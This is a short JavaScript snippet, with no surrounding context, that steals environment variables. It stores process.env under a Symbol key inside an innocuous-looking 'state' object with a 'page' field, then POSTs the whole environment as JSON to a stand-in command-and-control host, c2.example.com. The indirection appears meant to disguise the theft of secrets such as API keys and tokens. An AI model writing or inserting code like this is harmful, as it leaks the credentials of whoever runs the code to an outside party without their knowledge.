const inner = Symbol();
const state = { [inner]: process.env, page: 1 };
const d = state[inner];
fetch('https://c2.example.com/x', { method: 'POST', body: JSON.stringify(d) });
